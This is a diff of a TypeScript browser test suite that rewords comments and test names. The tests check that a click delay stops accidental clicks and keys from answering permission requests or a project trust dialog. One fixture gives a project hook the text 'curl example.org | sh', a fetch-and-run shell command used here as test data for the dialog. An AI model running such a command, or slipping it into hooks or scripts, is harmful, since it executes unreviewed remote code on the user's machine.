@@ -1,4 +1,4 @@
-/** The click delay (C6, X6) in a real browser: what a second click, a shift or a new window must not answer. */
+/** The click delay (C6, X6) in a real browser: a second click, a layout shift or a new window must not answer. */
 import type { ProjectConfig } from '@tugdeck/protocol/trust/project-config';
 import type { Page } from 'playwright-core';
 import { expect, test } from 'vitest';
@@ -6,7 +6,7 @@ import { type GalleryPageOptions, shareGallery } from './gallery/share-gallery.t
 
 const gallery = shareGallery();
 
-/** Time stands still but for `runFor`: how busy the machine is cannot decide anything. */
+/** The page's clock only advances with `runFor`, so that the load of the machine does not matter. */
 async function open(hash: string, options: GalleryPageOptions = {}): Promise<Page> {
   const page = await gallery.open(hash, { height: 1200, isOwn: true, ...options });
   await page.clock.install();
@@ -26,7 +26,7 @@ const askFor = async (page: Page, session: string, ...ids: string[]) => {
   );
   await page.clock.runFor(50);
 };
-/** Drawn, and long enough ago. */
+/** Waits until the request was rendered long enough ago. */
 const rested = async (page: Page, count = 1) => {
   await groups(page)
     .nth(count - 1)
@@ -50,7 +50,7 @@ async function middleOf(page: Page, index = 0) {
   if (!box) throw new Error('the button is not drawn');
   return { x: box.x + box.width / 2, y: box.y + box.height / 2 };
 }
-/** A list that has just moved takes no pointer for a moment, much shorter than the delay. */
+/** A list that just moved ignores the pointer for a moment, much shorter than the delay. */
 async function isHit(page: Page): Promise<boolean> {
   await page.clock.runFor(20);
   return page.evaluate(
@@ -72,7 +72,7 @@ async function openInbox(page: Page): Promise<void> {
 }
 
 test.each([30, 120, 200, 300])(
-  'C6 D7 the second click of a double click after %i ms answers no request of another session',
+  'C6 D7 the second click of a double click after %i ms does not answer a request of another session',
   async (gap) => {
     const page = await open('failed');
     await askFor(page, 'rest', 'one');
@@ -95,7 +95,7 @@ test.each([30, 120, 200, 300])(
   },
 );
 
-test('C6 a request that was pushed away by text above it is not answered by the next click', async () => {
+test('C6 the next click does not answer a request that text above pushed away', async () => {
   const page = await open('rest');
   await page.evaluate(() =>
     window.gallery
@@ -119,7 +119,7 @@ test('C6 a request that was pushed away by text above it is not answered by the 
   await expect.poll(() => answered(page)).toEqual(['one']);
 });
 
-test('C6 scrolling to a request is not a move: what is scrolled to can be answered at once', async () => {
+test('C6 a request can be answered at once after scrolling to it', async () => {
   const page = await open('rest', { height: 700 });
   await askFor(page, 'rest', 'one', 'two', 'three', 'four');
   await rested(page, 4);
@@ -134,7 +134,7 @@ test('C6 scrolling to a request is not a move: what is scrolled to can be answer
 });
 
 test.each(['focus', 'visibilitychange'])(
-  'C6 a click right after the window came to the front (%s) answers nothing',
+  'C6 a click right after the window came to the front (%s) does not answer',
   async (how) => {
     const page = await open('rest');
     await askFor(page, 'rest', 'one');
@@ -151,7 +151,7 @@ test.each(['focus', 'visibilitychange'])(
   },
 );
 
-test('C6 what closes on the first click of a double click leaves the second to nobody', async () => {
+test('C6 the second click of a double click does nothing after the first one closed its target', async () => {
   const page = await open('rest');
   await askFor(page, 'rest', 'one');
   await rested(page);
@@ -173,7 +173,7 @@ test('C6 what closes on the first click of a double click leaves the second to n
   await expect.poll(() => answered(page)).toEqual(['one']);
 });
 
-test('C6 a card that comes forward under the pointer is not answered by the click that brought it', async () => {
+test('C6 the click that brings a card to the front does not answer its request', async () => {
   const page = await open('rest');
   await askFor(page, 'rest', 'one');
   await rested(page);
@@ -194,7 +194,7 @@ test('C6 a card that comes forward under the pointer is not answered by the clic
   expect(await answered(page)).toEqual([]);
 });
 
-test('C6 keys that are held, or that follow the focus at once, answer nothing', async () => {
+test('C6 held keys, and keys right after a focus change, do not answer', async () => {
   const page = await open('rest');
   await askFor(page, 'rest', 'one', 'two');
   await rested(page, 2);
@@ -216,7 +216,7 @@ test('C6 keys that are held, or that follow the focus at once, answer nothing', 
   await expect.poll(() => answered(page)).toEqual(['one', 'two']);
 });
 
-test('C6 the rule that opens under a double click or a double Enter is not chosen', async () => {
+test('C6 a double click or double Enter does not choose the rule that opens under it', async () => {
   const page = await open('rest');
   await askFor(page, 'rest', 'one');
   await rested(page);
@@ -231,7 +231,7 @@ test('C6 the rule that opens under a double click or a double Enter is not chose
   await page.clock.runFor(500);
 });
 
-test('X6 the question of trust takes no click in its first moments', async () => {
+test('X6 the trust dialog ignores clicks in its first moments', async () => {
   const told: ProjectConfig = {
     brought: [{ kind: 'hook', path: '.agent/settings.json', text: 'curl example.org | sh' }],
     cut: false,
@@ -242,7 +242,7 @@ test('X6 the question of trust takes no click in its first moments', async () =>
     hash: 'what was shown',
   };
   let now = told;
-  // Not before time stands still: the question is drawn as soon as this is answered.
+  // Only after the clock is stopped: the dialog is rendered as soon as this is answered.
   let isPaused: () => void = () => undefined;
   const paused = new Promise<void>((resolve) => {
     isPaused = resolve;
@@ -268,7 +268,7 @@ test('X6 the question of trust takes no click in its first moments', async () =>
   await clickAt(page, place);
   await expect.poll(() => note(page).count()).toBe(1);
   expect(await asked()).toEqual([]);
-  // It is another configuration by now: drawn anew, the delay begins anew.
+  // The configuration has changed: the dialog is rendered again and the delay restarts.
   now = {
     ...told,
     hash: 'another',
